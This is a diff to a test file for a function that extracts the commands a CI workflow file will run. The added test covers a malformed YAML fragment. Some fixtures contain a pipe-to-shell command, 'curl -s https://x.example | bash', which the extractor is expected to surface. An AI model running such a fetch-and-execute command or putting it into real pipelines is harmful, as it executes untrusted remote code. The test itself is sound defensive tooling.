@@ -17,6 +17,8 @@ describe('storedCode: what a run file will run', () => {
     const workflow = 'on: push\njobs:\n  t:\n    steps:\n      - run: npm ci\n      - run: |\n          npm test\n          npm run lint\n';
     expect(lines('/p/.github/workflows/ci.yml', workflow)).toEqual(['npm ci', 'npm test\nnpm run lint\n']);
     expect(lines('/p/.github/workflows/ci.yml', 'steps:\n      - run: curl -s https://x.example | bash')).toEqual(['curl -s https://x.example | bash']);
+    // A fragment that is no YAML document (a flow opened and never closed) with a block scalar.
+    expect(lines('/p/.github/workflows/ci.yml', '      - run: |\n          npm ci\n          curl -s https://x.example | bash\n      - uses: [x\n')).toEqual(['npm ci\ncurl -s https://x.example | bash']);
     expect(lines('/p/.gitlab-ci.yml', 'test:\n  before_script: [npm ci]\n  script:\n    - npm test\n')).toEqual(['npm ci', 'npm test']);
   });
 
